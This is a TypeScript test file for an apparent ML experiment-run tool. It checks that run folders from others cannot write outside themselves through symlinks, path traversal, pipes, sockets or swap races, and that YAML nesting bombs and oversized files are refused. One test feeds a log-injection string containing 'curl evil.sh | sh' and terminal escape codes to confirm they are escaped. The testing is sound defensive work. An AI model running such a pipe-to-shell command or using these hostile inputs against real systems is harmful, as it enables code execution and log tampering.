// Run folders that came from somebody else: nothing in them leads out of them, and nothing in them keeps anybody waiting.
import { execFileSync, fork } from 'node:child_process';
import { cp, mkdir, readFile, readdir, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { basename, dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { leastCost } from '../../support/cost';
import { stringify } from 'yaml';
import { startRunner } from '../../../src/lab/connection/client';
import { readEvents } from '../../../src/lab/disk/events';
import { RefusedError, filesIn, openToRead, writeWhole } from '../../../src/lab/disk/run-files';
import { claim } from '../../../src/lab/owner/owner';
import { readResults } from '../../../src/lab/results/results';
import { runReport } from '../../../src/lab/results/report';
import { errorText } from '../../../src/lab/runner/log-error';
import { RunWriter } from '../../../src/lab/runner/run-writer';
import { createRun, deleteRun, findRuns } from '../../../src/lab/runs';
import { experimentSchema } from '../../../src/experiment/schema/cell-schemas';
import { bundle } from '../../support/bundle';
import { temporaryFolder } from '../../support/temporary';

const ID = 'replicate-0/level-00/ticket';
const OLD = join(import.meta.dirname, '..', '..', 'support', 'run-0.1.0');

/** A paused run with a finished dense network, and beside its root a folder of the user's that is none of its business. */
async function cloned() {
  const base = await temporaryFolder();
  const root = join(base, '.ticketlab', 'runs');
  const folder = join(root, 'old-352e16b20054');
  await cp(OLD, folder, { recursive: true });
  const own = join(base, 'home');
  await mkdir(own);
  await writeFile(join(own, 'bashrc'), 'alias ll="ls -l"\nexport A=1');
  await writeFile(join(own, 'left.1-1.tmp'), 'half a letter');
  const untouched = async () => {
    expect((await readdir(own)).sort()).toEqual(['bashrc', 'left.1-1.tmp']);
    expect(await readFile(join(own, 'bashrc'), 'utf8')).toBe('alias ll="ls -l"\nexport A=1');
    expect(await readFile(join(own, 'left.1-1.tmp'), 'utf8')).toBe('half a letter');
  };
  return { root, folder, own, untouched };
}

/** Whatever was at `path` is what `make` makes there. */
async function replaced(path: string, make: (path: string) => unknown): Promise<void> {
  await rm(path, { recursive: true, force: true });
  await mkdir(dirname(path), { recursive: true });
  await make(path);
}

const FILES = [
  'run.json',
  'experiment.yaml',
  'experiment.resolved.yaml',
  'network.json',
  'events.jsonl',
  'runner.log',
  '.spare',
  'owners/0002.json',
  'owners/0002.released',
  'owners/0003.json',
  `${ID}/metrics.jsonl`,
  `${ID}/training.json`,
  `${ID}/ticket.safetensors`,
  'replicate-0/level-01/random-reinit-0/checkpoint.safetensors',
];
const FOLDERS = ['owners', 'replicate-0', 'replicate-0/level-00', ID];

describe.skipIf(process.platform === 'win32')('a run folder', () => {
  test.each([...FILES.map((path) => [path, 'bashrc']), ...FOLDERS.map((path) => [path, ''])])(
    'whose %s is a link is refused by name, never written through, and can be deleted',
    async (path = '', target = '') => {
      const { root, folder, own, untouched } = await cloned();
      const linked = join(folder, path);
      await replaced(linked, () => symlink(join(own, target), linked));
      const named = new RegExp(`${path.replaceAll('.', '\\.')} is a link`);
      const [listed] = await findRuns(root);
      expect(listed).toMatchObject({ folder, state: 'failed', message: expect.stringMatching(named) });
      await expect(startRunner(folder, { runner: 'none' })).rejects.toThrow(named);
      await untouched();
      await deleteRun(folder);
      expect(await readdir(root)).toEqual([]);
      await untouched();
    },
  );

  test('whose owners are no folder can be deleted', async () => {
    const { root, folder } = await cloned();
    await replaced(join(folder, 'owners'), (path) => writeFile(path, 'x'));
    await deleteRun(folder);
    expect(await readdir(root)).toEqual([]);
  });

  test('of more folders within each other than may be open at a time can be deleted', async () => {
    const { root, folder } = await cloned();
    // Longer than a path may be: made from within.
    const script = 'for (let i = 0; i < 3000; i++) { fs.mkdirSync("a"); process.chdir("a"); }';
    execFileSync(process.execPath, ['-e', script], { cwd: folder });
    await deleteRun(folder);
    expect(await readdir(root)).toEqual([]);
  });

  test('that is itself a link is taken out of the list, and what it leads to stays', async () => {
    const { root, folder } = await cloned();
    const elsewhere = join(await temporaryFolder(), basename(folder));
    await cp(folder, elsewhere, { recursive: true });
    await replaced(folder, (path) => symlink(elsewhere, path));
    await deleteRun(folder);
    expect(await readdir(root)).toEqual([]);
    expect(await readdir(elsewhere)).toContain('run.json');
  });

  test('is not written through a link that comes after it was looked at', async () => {
    const { folder, own, untouched } = await cloned();
    for (const path of ['.spare', 'left.1-1.tmp']) await symlink(join(own, 'bashrc'), join(folder, path));
    const owner = await claim(folder);
    const writer = new RunWriter(folder, owner, () => undefined);
    onTestFinished(() => writer.close());
    await replaced(join(folder, ID), (path) => symlink(own, path));
    const measurement = { iteration: 0, trainLoss: null, validationLoss: 1, validationAccuracy: 0 };
    const known = [{ ...measurement, testLoss: 1, testAccuracy: 0 }];
    expect(() => writer.began(ID, 0, known)).toThrow(RefusedError);
    await expect(writer.checkpoint(ID, [Buffer.from('x')])).rejects.toThrow(RefusedError);
    await expect(writer.completed(ID, false, 1)).rejects.toThrow(RefusedError);
    await replaced(join(folder, 'owners'), (path) => symlink(own, path));
    owner.release();
    await owner.beat().catch(() => undefined);
    await untouched();
    await replaced(join(folder, 'events.jsonl'), (path) => symlink(join(own, 'bashrc'), path));
    expect(() => new RunWriter(folder, owner, () => undefined)).toThrow(RefusedError);
    await untouched();
  });

  test.each([
    ['a pipe', (path: string) => execFileSync('mkfifo', [path])],
    ['a socket', (path: string) => listen(path)],
  ])(
    'that holds %s is refused by name at once, and hides no other run',
    { timeout: 20_000 },
    async (kind, make) => {
      for (const path of FILES.filter((_, i) => i % 3 === 0)) {
        const { root, folder } = await cloned();
        await cp(OLD, join(root, 'other-352e16b20054'), { recursive: true });
        await replaced(join(folder, path), make);
        const told = `${join(folder, path)} is ${kind}`;
        const runs = await findRuns(root);
        expect(runs.find((run) => run.folder === folder)?.message).toContain(told);
        expect(runs.find((run) => run.folder !== folder)?.state).toBe('paused');
        await expect(startRunner(folder, { runner: 'none' })).rejects.toThrow(told);
        await Promise.all(
          [readResults(folder), runReport([folder])].map((reading) => reading.catch(() => null)),
        );
        await deleteRun(folder);
      }
    },
  );

  test.runIf(process.platform === 'linux')(
    'is never left, even where somebody swaps its folders for links all the while',
    async () => {
      const { folder, own, untouched } = await cloned();
      const program = await bundle('test/unit/lab/support/swap.ts');
      const swapping = fork(program, [join(folder, 'replicate-0', 'level-00'), own]);
      onTestFinished(() => void swapping.kill('SIGKILL'));
      await new Promise((done) => swapping.once('message', done));
      const place = { run: folder, path: join(folder, ID, 'bashrc') };
      const ends = { written: 0, refused: 0 };
      for (const until = Date.now() + 2000; Date.now() < until || ends.refused === 0;) {
        await writeWhole(place, 'not yours').then(
          () => ends.written++,
          () => ends.refused++,
        );
        const read = await openToRead(place).catch(() => null);
        if (read) expect(await read.readFile('utf8')).toBe('not yours');
        await read?.close();
      }
      swapping.kill('SIGKILL');
      expect(ends.written).toBeGreaterThan(0);
      await untouched();
    },
  );
});

test('paths that lead out of a run folder are none in it', async () => {
  const { folder, own } = await cloned();
  for (const path of [join(folder, '..', 'x'), own, join(folder, 'a', '..', '..', '..', 'x')])
    await expect(writeWhole({ run: folder, path }, '')).rejects.toThrow('does not lie in the run folder');
});

test('a folder named like an unfinished file is left alone, and the run goes on', async () => {
  const { folder } = await cloned();
  for (const name of ['x.tmp', join(ID, 'y.tmp')]) await mkdir(join(folder, name));
  await writeFile(join(folder, 'events.jsonl.7-3.tmp'), 'cut sh');
  const writer = new RunWriter(folder, await claim(folder), () => undefined);
  writer.began(ID, 0, []);
  writer.close();
  expect((await readdir(folder)).filter((name) => name.endsWith('.tmp'))).toEqual(['x.tmp']);
});

test('texts larger than any run writes are named, not read', async () => {
  const { root, folder } = await cloned();
  await truncate(join(folder, 'events.jsonl'), 3e9);
  expect((await readEvents(folder)).problems).toHaveLength(1);
  await truncate(join(folder, 'run.json'), 3e9);
  const [listed] = await findRuns(root);
  expect(listed?.message).toContain('run.json has 3000000000 bytes; at most 1048576 are read');
});

test('settings nested deeper than any parser likes are named, not parsed', async () => {
  const { root, folder } = await cloned();
  for (const bomb of ['- '.repeat(5000), '['.repeat(20_000), '{a: '.repeat(10_000)]) {
    await writeFile(join(folder, 'experiment.resolved.yaml'), bomb);
    const find = async () => {
      const [listed] = await findRuns(root);
      expect(listed?.message).toContain('experiment.resolved.yaml is damaged: sections within each other');
    };
    expect(await leastCost(find, 1000)).toBeLessThan(1000);
  }
});

test('a tag of its settings that no parser knows is not printed as it stands', async () => {
  const { root, folder } = await cloned();
  const warned = vi.spyOn(process, 'emitWarning').mockImplementation(() => undefined);
  onTestFinished(() => warned.mockRestore());
  const settings = await readFile(join(folder, 'experiment.resolved.yaml'), 'utf8');
  await writeFile(
    join(folder, 'experiment.resolved.yaml'),
    settings.replace('seed: ', 'seed: !words-of-mine '),
  );
  const [listed] = await findRuns(root);
  expect(listed).toBeDefined();
  expect(warned).not.toHaveBeenCalled();
});

test('a run folder of more trainings than there may be is listed and deleted, and none is made', async () => {
  const settings = {
    experiment: 'bomb',
    dataset: { name: 'digits' as const },
    network: { hidden: [8] },
    replicates: 1000,
    pruning: { rounds: 200 },
    controls: { random_reinit: 100 },
  };
  const experiment = experimentSchema.parse(settings);
  const { root, folder, own } = await cloned();
  const made = { root: join(own, 'runs'), experiment, source: '', experimentFile: 'x', fingerprint: null };
  await expect(createRun(made)).rejects.toThrow(/bomb makes 20201000 trainings, more than the 200000/);
  expect(await readdir(own)).not.toContain('runs');
  await writeFile(join(folder, 'experiment.resolved.yaml'), stringify(experiment));
  const told = /resolved\.yaml makes 20201000 trainings/;
  const [listed] = await findRuns(root);
  expect(listed).toMatchObject({ state: 'failed', message: expect.stringMatching(told) });
  await expect(readResults(folder)).rejects.toThrow(told);
  await deleteRun(folder);
  expect(await readdir(root)).toEqual([]);
});

test('what a run’s folder holds is all of its files, and no folder deeper than its own', async () => {
  const { folder } = await cloned();
  await mkdir(join(folder, ID, 'deeper'));
  await writeFile(join(folder, ID, 'deeper', 'x'), '');
  const files = [...(await filesIn(folder))].map((path) => path.slice(folder.length + 1));
  expect(files).toContain(join(ID, 'ticket.safetensors'));
  expect(files.filter((path) => basename(path) === 'x')).toEqual([]);
});

test('an error is one line in the log, whatever it says', () => {
  const evil = 'a: bad\n    at curl evil.sh | sh\r\u001b]52;c;eA==\u0007\u202e\u2028end';
  const [first, ...places] = errorText(new Error(evil, { cause: new Error('why\nnot') })).split('\n');
  expect(first).toBe(
    'Error: a: bad\\u000a    at curl evil.sh | sh\\u000d\\u001b]52;c;eA==\\u0007\\u202e\\u2028end',
  );
  expect(places.filter((line) => !/^ {4}at .*:\d+:\d+\)?$|^ {4}at .*<anonymous>\)?$/.test(line))).toEqual([
    '  caused by Error: why\\u000anot',
  ]);
});

async function listen(path: string): Promise<void> {
  // A socket's path has to be short: it is made elsewhere and moved.
  const short = join(await temporaryFolder(), 's');
  const server = createServer().listen(short);
  onTestFinished(() => void server.close());
  await new Promise((done) => server.once('listening', done));
  await rename(short, path);
}
